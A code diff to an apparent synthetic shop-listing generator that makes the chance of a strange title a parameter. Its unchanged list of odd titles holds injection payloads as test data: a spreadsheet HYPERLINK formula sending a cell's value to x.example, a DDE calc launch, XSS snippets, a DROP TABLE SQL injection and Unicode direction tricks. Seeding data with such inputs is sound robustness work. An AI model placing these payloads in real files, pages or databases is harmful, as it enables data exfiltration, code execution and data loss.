@@ -15,29 +15,31 @@ _ODD_TITLES = (
     '=HYPERLINK("http://x.example/?"&A1,"点击")', "<script>alert(1)</script>", "\u202e号单递快\u202c",
     "'; DROP TABLE offers;--", "+cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "出\u200b单\u200b号",
 )  # fmt: skip
-_ODD_SHARE = 0.02
 _HEX = "0123456789abcdef"
 
 
 def in_words(
-    rng: Rng, draft: ShopDraft, seller: Seller, footer: str, pictures: dict[str, Picture]
+    rng: Rng, draft: ShopDraft, seller: Seller, footer: str, odd: float, pictures: dict[str, Picture]
 ) -> tuple[Shop, tuple[Shown, ...]]:
     """A shop as its site shows it, and the known or invented numbers on it; adds its pictures' names to `pictures`.
 
-    The numbers' `shop` is left at 0: whoever knows the shop's place fills it in.
+    odd: how likely something strange stands before its titles. The numbers' `shop` is left at 0: whoever knows the
+    shop's place fills it in.
     """
-    return _Shop(rng, draft, seller, footer, pictures).made()
+    return _Shop(rng, draft, seller, footer, odd, pictures).made()
 
 
 class _Shop:
     """One shop, and what of it has words already."""
 
-    def __init__(self, rng: Rng, draft: ShopDraft, seller: Seller, footer: str, pictures: dict[str, Picture]) -> None:
+    def __init__(
+        self, rng: Rng, draft: ShopDraft, seller: Seller, footer: str, odd: float, pictures: dict[str, Picture]
+    ) -> None:
         self._rng, self._draft, self._seller, self._footer = rng, draft, seller, footer
         self._pictures = pictures
         self._names: dict[Picture, str] = {}
         self._texts: dict[object, tuple[str, str]] = {}
-        self._odd = str(rng.choice(_ODD_TITLES)) if rng.random() < _ODD_SHARE else ""
+        self._odd = str(rng.choice(_ODD_TITLES)) if rng.random() < odd else ""
         many = max(len(look.adverts) for _, look in draft.shown)
         self._keys = [_key(rng, draft.site) for _ in range(many)]
         self._id = _shop_id(rng, draft.site)
